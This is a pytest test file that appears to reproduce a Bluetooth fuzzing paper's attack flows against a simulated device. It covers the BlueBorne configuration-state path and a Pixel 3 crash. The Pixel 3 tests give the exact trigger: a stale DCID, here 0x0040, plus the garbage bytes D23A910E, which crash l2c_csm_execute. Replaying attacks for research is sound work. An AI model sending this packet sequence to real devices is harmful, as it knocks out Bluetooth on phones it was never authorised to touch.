"""Directed replay of the paper's two narrative attack flows.

* §II.C — the BlueBorne motivating example (CVE-2017-1000251): connect to
  SDP without pairing, reach the configuration state, deliver malformed
  configuration traffic.
* §IV.E — the Pixel 3 case study: DCID 0x0040 plus a garbage tail in the
  configuration job triggers a null-pointer dereference in
  ``l2c_csm_execute`` and paralyses Bluetooth.
"""

from __future__ import annotations

import pytest

from repro.errors import ConnectionFailedError
from repro.l2cap.constants import CommandCode, ConnectionResult, Psm
from repro.l2cap.packets import (
    configuration_request,
    configuration_response,
    connection_request,
)
from repro.l2cap.states import ChannelState
from repro.stack.vulnerabilities import BLUEDROID_CIDP_NULL_DEREF
from repro.testbed.profiles import D2
from repro.hci.transport import VirtualLink
from repro.core.packet_queue import PacketQueue


def _pixel3_rig(armed=True):
    device = D2.build(armed=armed)
    link = VirtualLink(clock=device.clock)
    device.attach_to(link)
    return device, PacketQueue(link)


class TestBlueborneFlow:
    """The §II.C attack flow, step by step."""

    def test_step1_sdp_connects_without_pairing(self):
        device, queue = _pixel3_rig(armed=False)
        responses = queue.send(connection_request(psm=Psm.SDP, scid=0x0070))
        rsp = responses[0]
        assert rsp.fields["result"] == ConnectionResult.SUCCESS

    def test_step2_state_transition_to_configuration(self):
        device, queue = _pixel3_rig(armed=False)
        responses = queue.send(connection_request(psm=Psm.SDP, scid=0x0070))
        dcid = responses[0].fields["dcid"]
        block = device.engine.channels.get(dcid)
        assert block.state is ChannelState.WAIT_CONFIG

    def test_step3_malformed_config_traffic_accepted(self):
        """The malformed packets are valid-in-state: no rejection."""
        device, queue = _pixel3_rig(armed=False)
        responses = queue.send(connection_request(psm=Psm.SDP, scid=0x0070))
        dcid = responses[0].fields["dcid"]
        queue.send(configuration_request(dcid=dcid, identifier=2))
        malformed = configuration_response(scid=0x9999, identifier=3)
        malformed.garbage = b"\x41" * 8
        responses = queue.send(malformed)
        rejects = [r for r in responses if r.code == CommandCode.COMMAND_REJECT]
        assert not rejects  # accepted without rejection — the §II.C premise


class TestPixel3CaseStudy:
    """The §IV.E zero-day replay on the armed D2 profile.

    The paper's trigger is a Configuration Request whose DCID (0x0040)
    does not match any *live* channel control block. We reproduce the
    staleness: connect (the target allocates 0x0040), disconnect, and
    reconnect (the target allocates 0x0041) — 0x0040 is now a dangling
    CID exactly like the one the paper's mutated packet named.
    """

    def _reach_config_job(self, queue):
        from repro.l2cap.packets import disconnection_request

        first = queue.send(connection_request(psm=Psm.SDP, scid=0x0070))
        stale = first[0].fields["dcid"]
        queue.send(
            disconnection_request(dcid=stale, scid=0x0070, identifier=2)
        )
        second = queue.send(
            connection_request(psm=Psm.SDP, scid=0x0071, identifier=3)
        )
        assert second[0].fields["dcid"] != stale
        return stale

    def test_dcid_0x40_with_garbage_kills_bluetooth(self):
        device, queue = _pixel3_rig(armed=True)
        stale = self._reach_config_job(queue)
        attack = configuration_request(dcid=stale, identifier=5)
        attack.garbage = bytes.fromhex("D23A910E")
        with pytest.raises(ConnectionFailedError):
            queue.send(attack)
        assert not device.is_alive

    def test_tombstone_matches_figure12(self):
        device, queue = _pixel3_rig(armed=True)
        stale = self._reach_config_job(queue)
        attack = configuration_request(dcid=stale, identifier=5)
        attack.garbage = bytes.fromhex("D23A910E")
        with pytest.raises(ConnectionFailedError):
            queue.send(attack)
        dump = device.crash_dumps[0]
        assert "signal 11 (SIGSEGV)" in dump
        assert "fault addr 0x20" in dump
        assert "l2c_csm_execute(t_l2c_ccb*, unsigned short, void*)" in dump
        assert "google/blueline" in dump
        assert "null pointer dereference" in dump

    def test_same_packet_without_garbage_is_harmless(self):
        device, queue = _pixel3_rig(armed=True)
        stale = self._reach_config_job(queue)
        attack = configuration_request(dcid=stale, identifier=5)
        queue.send(attack)
        assert device.is_alive

    def test_same_packet_outside_config_job_is_harmless(self):
        device, queue = _pixel3_rig(armed=True)
        attack = configuration_request(dcid=0x0040, identifier=5)
        attack.garbage = bytes.fromhex("D23A910E")
        queue.send(attack)  # no channel mid-configuration
        assert device.is_alive

    def test_vulnerability_model_is_the_registered_one(self):
        assert BLUEDROID_CIDP_NULL_DEREF in D2.vulnerabilities
